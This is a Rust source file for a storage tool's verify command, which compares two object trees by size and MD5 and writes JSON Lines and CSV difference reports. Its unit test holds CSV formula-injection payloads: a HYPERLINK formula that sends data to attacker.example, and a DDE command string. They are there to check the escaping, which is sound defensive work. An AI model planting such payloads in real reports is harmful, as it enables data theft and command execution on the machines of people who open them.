//! `ferry verify SRC DST`: evidence that a destination matches its source.
//!
//! Both sides are listed in key order and paired by the planner's merge (bounded memory). Each
//! pair is compared by size, then by MD5: the stored Content-MD5 where a side has one, or, with
//! `--compute-hash`, an MD5 computed by reading the object. Every difference becomes one row of
//! a JSON Lines report and of a CSV report, written as they are found.

use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::AtomicU64;

use base64::Engine as _;
use ferry_engine::ItemTask;
use ferry_md5::Md5;
use ferry_plan::{Action, ComparePolicy, Decision, Filter};
use ferry_store::{Entry, ListDepth, Store, StoreError};
use futures::{StreamExt, TryStreamExt};
use serde::Serialize;

use crate::listing::{compared, scoped_plan};
use crate::open::{Side, SideOptions, tree};
use crate::spec::{Role, VerifySpec};
use crate::{JobContext, JobError as CliError, JobEvent};

/// Why a path is reported.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Verdict {
    Matched,
    MissingAtDestination,
    ExtraAtDestination,
    SizeMismatch,
    HashMismatch,
    Unverifiable,
}

impl Verdict {
    fn as_str(self) -> &'static str {
        match self {
            Self::Matched => "matched",
            Self::MissingAtDestination => "missing at destination",
            Self::ExtraAtDestination => "extra at destination",
            Self::SizeMismatch => "size mismatch",
            Self::HashMismatch => "hash mismatch",
            Self::Unverifiable => "unverifiable",
        }
    }
}

/// One report row.
#[derive(Debug, Serialize, serde::Deserialize)]
pub(crate) struct Row {
    pub(crate) path: String,
    pub(crate) reason: std::borrow::Cow<'static, str>,
    pub(crate) source_size: Option<u64>,
    destination_size: Option<u64>,
    source_md5: Option<String>,
    destination_md5: Option<String>,
    detail: Option<String>,
}

fn b64(md5: Option<[u8; 16]>) -> Option<String> {
    md5.map(|m| base64::engine::general_purpose::STANDARD.encode(m))
}

/// The MD5 of an object, read in full.
pub(crate) async fn hash(store: &dyn Store, key: &str) -> Result<[u8; 16], StoreError> {
    let mut stream = store.read(key, None).await?;
    let mut hasher = Md5::new();
    while let Some(chunk) = stream.try_next().await? {
        hasher.update(&chunk);
    }
    Ok(hasher.finalize())
}

/// A side's MD5: stored, or computed when allowed.
async fn md5_of(store: &dyn Store, prefix: &str, entry: &Entry, compute: bool) -> Result<Option<[u8; 16]>, StoreError> {
    let key = format!("{prefix}{}", entry.key);
    let stored = match entry.content_md5 {
        // Azure Files lists no MD5: its stored one comes with the file's properties.
        None if store.capabilities().smb_names => store.stat(&key).await?.content_md5,
        stored => stored,
    };
    match stored {
        Some(m) => Ok(Some(m)),
        None if compute => hash(store, &key).await.map(Some),
        None => Ok(None),
    }
}

/// One CSV cell. A cell that a spreadsheet would run as a formula (starting `=`, `+`, `-`, `@`,
/// tab or CR) is prefixed with `'`, as OWASP advises: the names come from containers other
/// people write to, and the report is meant to be opened and attached to tickets. The JSON
/// Lines report keeps every name exactly.
fn csv_field(text: &str) -> String {
    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_owned() };
    if text.contains([',', '"', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text }
}

pub(crate) struct Reports {
    jsonl: BufWriter<File>,
    csv: BufWriter<File>,
    jsonl_path: PathBuf,
    csv_path: PathBuf,
}

impl Reports {
    pub(crate) fn create(dir: &std::path::Path, id: &str) -> std::io::Result<Self> {
        std::fs::create_dir_all(dir)?;
        let jsonl_path = dir.join(format!("verify-{id}.jsonl"));
        let csv_path = dir.join(format!("verify-{id}.csv"));
        // Private to the user, like the job's log: the rows name the user's files.
        let jsonl = BufWriter::new(crate::shards::private_file(&jsonl_path)?);
        let mut csv = BufWriter::new(crate::shards::private_file(&csv_path)?);
        writeln!(csv, "path,reason,source_size,destination_size,source_md5,destination_md5,detail")?;
        Ok(Self { jsonl, csv, jsonl_path, csv_path })
    }

    pub(crate) fn write(&mut self, row: &Row) -> std::io::Result<()> {
        writeln!(self.jsonl, "{}", serde_json::to_string(row).unwrap_or_default())?;
        let size = |s: Option<u64>| s.map(|s| s.to_string()).unwrap_or_default();
        writeln!(
            self.csv,
            "{},{},{},{},{},{},{}",
            csv_field(&row.path),
            row.reason,
            size(row.source_size),
            size(row.destination_size),
            row.source_md5.as_deref().unwrap_or_default(),
            row.destination_md5.as_deref().unwrap_or_default(),
            csv_field(row.detail.as_deref().unwrap_or_default())
        )
    }

    pub(crate) fn finish(mut self) -> std::io::Result<(PathBuf, PathBuf)> {
        self.jsonl.flush()?;
        self.csv.flush()?;
        Ok((self.jsonl_path, self.csv_path))
    }
}

/// Compares one pair (or lone object) and builds its row.
async fn judge(
    decision: Decision,
    source: &dyn Store,
    source_prefix: &str,
    dest: &dyn Store,
    dest_prefix: &str,
    compute: bool,
) -> (Verdict, Row) {
    let mut row = Row {
        path: decision.key.clone(),
        reason: "".into(),
        source_size: decision.source.as_ref().map(|e| e.size),
        destination_size: decision.destination.as_ref().map(|e| e.size),
        source_md5: None,
        destination_md5: None,
        detail: None,
    };
    let verdict = match (decision.action, &decision.source, &decision.destination) {
        (Action::Extra, _, _) => Verdict::ExtraAtDestination,
        (_, Some(_), None) => Verdict::MissingAtDestination,
        (_, Some(s), Some(d)) if s.size != d.size => Verdict::SizeMismatch,
        (_, Some(s), Some(d)) => {
            let hashes =
                futures::try_join!(md5_of(source, source_prefix, s, compute), md5_of(dest, dest_prefix, d, compute));
            match hashes {
                Ok((a, b)) => {
                    row.source_md5 = b64(a);
                    row.destination_md5 = b64(b);
                    match (a, b) {
                        (Some(a), Some(b)) if a == b => Verdict::Matched,
                        (Some(_), Some(_)) => Verdict::HashMismatch,
                        _ => {
                            row.detail = Some("no stored MD5 on one side; use --compute-hash".into());
                            Verdict::Unverifiable
                        }
                    }
                }
                Err(e) => {
                    row.detail = Some(format!("cannot read it to hash it: {e}"));
                    Verdict::Unverifiable
                }
            }
        }
        _ => Verdict::Unverifiable,
    };
    row.reason = verdict.as_str().into();
    (verdict, row)
}

/// `ferry verify`: compares two trees, writes the reports, and says how it went. Differences
/// are an error of class [`crate::ErrorClass::Differences`].
pub async fn verify(spec: &VerifySpec, ctx: &JobContext) -> Result<VerifySummary, CliError> {
    let source_location = spec.source.to_location(ctx.secrets.sas(Role::Source))?;
    let dest_location = spec.destination.to_location(ctx.secrets.sas(Role::Destination))?;
    let filter = Filter::new(&spec.filter).map_err(|e| CliError::usage(e.to_string()))?;
    let depth = if spec.recursive { ListDepth::Recursive } else { ListDepth::OneLevel };
    let (source, source_prefix) = tree(&source_location, Role::Source, ctx, false, SideOptions::default()).await?;
    let (dest, dest_prefix) = tree(&dest_location, Role::Destination, ctx, false, SideOptions::default()).await?;
    let (scanned_source, scanned_dest) = (AtomicU64::new(0), AtomicU64::new(0));
    let decisions = scoped_plan(
        compared(&source, &source_prefix, depth, &filter, &scanned_source),
        compared(&dest, &dest_prefix, depth, &filter, &scanned_dest),
        ComparePolicy::TimeAndSize,
        &filter,
    );
    let dir = spec.report_dir.clone().unwrap_or_else(|| ctx.dirs.logs.clone());
    let trees = Trees { source: &source, source_prefix: &source_prefix, dest: &dest, dest_prefix: &dest_prefix };
    let names = match (&spec.run_id, spec.filter.shard, &spec.report_dir) {
        (Some(run), Some(shard), Some(dir)) => {
            crate::shards::check_run_record(dir, &crate::shards::RunRecord::verify(run, shard, spec))?;
            if let Some(choice) = &spec.plan {
                crate::shards::keep_plan(dir, run, choice)?;
            }
            Some(crate::shards::evidence(dir, run, shard, "verify.jsonl"))
        }
        _ => None,
    };
    let options = VerifyOptions { compute_hash: spec.compute_hash, ignore_extras: false, names };
    compare_trees(decisions, &trees, options, &dir, ctx).await
}

/// The two trees a verification compares.
pub(crate) struct Trees<'a> {
    pub(crate) source: &'a Side,
    pub(crate) source_prefix: &'a str,
    pub(crate) dest: &'a Side,
    pub(crate) dest_prefix: &'a str,
}

/// How a verification judges.
#[derive(Debug, Clone)]
pub(crate) struct VerifyOptions {
    /// Read and hash objects that have no stored MD5.
    pub(crate) compute_hash: bool,
    /// Do not count objects only at the destination (after a copy, or a sync without deletes).
    pub(crate) ignore_extras: bool,
    /// A shard's evidence: every judged name (matched too), in name order, as JSON Lines.
    pub(crate) names: Option<PathBuf>,
}

/// What a verification found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VerifySummary {
    /// Its id (the reports' names).
    pub id: String,
    /// Pairs that match.
    pub matched: u64,
    /// Source objects the destination lacks.
    pub missing: u64,
    /// Destination objects the source lacks.
    pub extra: u64,
    /// Pairs of different sizes.
    pub size_mismatches: u64,
    /// Pairs of different MD5s.
    pub hash_mismatches: u64,
    /// Pairs that could not be compared by hash.
    pub unverifiable: u64,
    /// The JSON Lines report.
    pub jsonl: PathBuf,
    /// The CSV report.
    pub csv: PathBuf,
}

impl VerifySummary {
    /// How many differences were found.
    pub fn differences(&self) -> u64 {
        self.missing + self.extra + self.size_mismatches + self.hash_mismatches
    }

    /// `Different`, `IdenticalWhereVerifiable` or `Identical`.
    pub fn status(&self) -> &'static str {
        if self.differences() > 0 {
            "Different"
        } else if self.unverifiable > 0 {
            "IdenticalWhereVerifiable"
        } else {
            "Identical"
        }
    }
}

/// Judges every decision of a merged listing, writes the reports, sends the summary, and fails
/// (class `Differences`) when there are differences.
pub(crate) async fn compare_trees(
    decisions: impl futures::Stream<Item = Result<Decision, StoreError>> + Send,
    trees: &Trees<'_>,
    options: VerifyOptions,
    dir: &std::path::Path,
    ctx: &JobContext,
) -> Result<VerifySummary, CliError> {
    let id = uuid::Uuid::new_v4().simple().to_string();
    let mut reports = Reports::create(dir, &id)
        .map_err(|e| CliError::failed(format!("cannot write the report in `{}`: {e}", dir.display())))?;
    let (source_store, dest_store): (Arc<dyn Store>, Arc<dyn Store>) =
        (trees.source.store.clone(), trees.dest.store.clone());
    let (sp, dp): (Arc<str>, Arc<str>) = (trees.source_prefix.into(), trees.dest_prefix.into());
    let compute = options.compute_hash;
    let judging = decisions
        .try_filter(|d| futures::future::ready(!(options.ignore_extras && d.action == Action::Extra)))
        .map_ok(|d| {
            let (s, t, sp, dp) = (source_store.clone(), dest_store.clone(), sp.clone(), dp.clone());
            // A task each: objects are read and hashed on all of the runtime's threads.
            let judged = ItemTask::spawn(async move { judge(d, &*s, &sp, &*t, &dp, compute).await });
            async move { Ok::<_, StoreError>(judged.join().await) }
        });
    // A shard's evidence lists every name in order (for the merge), so its judging keeps order.
    let mut judged = match &options.names {
        Some(_) => judging.try_buffered(16).boxed(),
        None => judging.try_buffer_unordered(16).boxed(),
    };
    let mut names = match &options.names {
        Some(path) => Some(
            crate::shards::private_file(&path.with_extension("tmp"))
                .map(BufWriter::new)
                .map_err(|e| CliError::failed(format!("cannot write `{}`: {e}", path.display())))?,
        ),
        None => None,
    };
    let mut counts = [0u64; 6];
    while let Some(item) = judged.next().await {
        let (verdict, row) = item.map_err(|e| {
            CliError::from(e).caused_by("a listing failed, so the comparison is incomplete and proves nothing")
        })?;
        counts[verdict as usize] += 1;
        let written = match names.as_mut() {
            Some(names) => writeln!(names, "{}", serde_json::to_string(&row).unwrap_or_default()),
            None => Ok(()),
        };
        written.map_err(|e| CliError::failed(format!("cannot write the shard's evidence: {e}")))?;
        if verdict != Verdict::Matched {
            reports.write(&row).map_err(|e| CliError::failed(format!("cannot write the report: {e}")))?;
        }
    }
    if let (Some(mut file), Some(path)) = (names, &options.names) {
        // Renamed into place only once complete: a shard's evidence is whole or absent.
        file.flush()
            .and_then(|()| std::fs::rename(path.with_extension("tmp"), path))
            .map_err(|e| CliError::failed(format!("cannot write `{}`: {e}", path.display())))?;
    }
    let (jsonl, csv) = reports.finish().map_err(|e| CliError::failed(format!("cannot write the report: {e}")))?;
    let [matched, missing, extra, size_mismatches, hash_mismatches, unverifiable] = counts;
    let summary =
        VerifySummary { id, matched, missing, extra, size_mismatches, hash_mismatches, unverifiable, jsonl, csv };
    ctx.events.event(&JobEvent::Verified(&summary));
    let differences = summary.differences();
    if differences > 0 {
        return Err(CliError::differences(format!("{differences} differences found; see the report")));
    }
    if unverifiable > 0 {
        ctx.events.event(&JobEvent::Warning(&format!(
            "{unverifiable} pairs could not be compared by hash; add --compute-hash to read and hash them"
        )));
    }
    Ok(summary)
}

#[cfg(test)]
mod tests {
    use super::csv_field;

    /// Finding 18: blob names such as `=HYPERLINK(…)` landed in the CSV report as formulas.
    #[test]
    fn formula_like_names_are_defused_in_csv() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://attacker.example/?leak=\"&A2;\"Click\")"),
            "\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A2;\"\"Click\"\")\""
        );
        assert_eq!(csv_field("@SUM(1+9)*cmd|' /C calc'!A0"), "'@SUM(1+9)*cmd|' /C calc'!A0");
        for name in ["+1", "-1", "\tx"] {
            assert!(csv_field(name).starts_with('\''), "{name}");
        }
        assert_eq!(csv_field("plain, with comma"), "\"plain, with comma\"");
        assert_eq!(csv_field("photos/a-b.jpg"), "photos/a-b.jpg");
    }
}
